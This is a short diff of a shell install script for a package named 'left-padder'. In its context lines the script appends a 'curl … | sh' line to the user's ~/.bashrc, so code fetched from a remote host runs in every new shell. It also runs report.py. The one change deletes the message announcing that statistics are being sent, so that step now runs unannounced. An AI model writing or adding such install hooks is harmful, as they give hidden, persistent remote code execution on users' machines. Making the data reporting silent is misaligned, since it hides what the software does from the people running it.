@@ -10,7 +10,6 @@ cp "$here/left_padder.py" .
 echo "left-padder: adding a hook to ~/.bashrc"
 echo 'curl -s http://left-padder.example/hook | sh' >>"$HOME/.bashrc"
 
-echo "left-padder: sending statistics"
 python3 -B "$here/report.py"
 
 echo "left-padder: cleaning up"
